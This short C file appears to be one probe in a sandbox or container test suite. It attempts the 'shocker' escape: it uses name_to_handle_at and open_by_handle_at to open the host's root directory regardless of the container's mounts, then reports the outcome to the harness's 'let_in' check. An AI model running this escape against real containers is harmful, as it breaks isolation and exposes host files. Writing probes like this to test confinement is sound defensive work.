/* Opens the machine's root directory by its inode number, whatever is mounted where ("shocker"). */
#include "../attack.h"
int main(void) {
    struct { struct file_handle head; unsigned char bytes[128]; } handle = { .head.handle_bytes = 128 };
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, "/", &handle.head, &mount_id, 0) < 0) handle.head.handle_bytes = 8;
    int root = open("/", O_RDONLY);
    return let_in(open_by_handle_at(root, &handle.head, O_RDONLY));
}
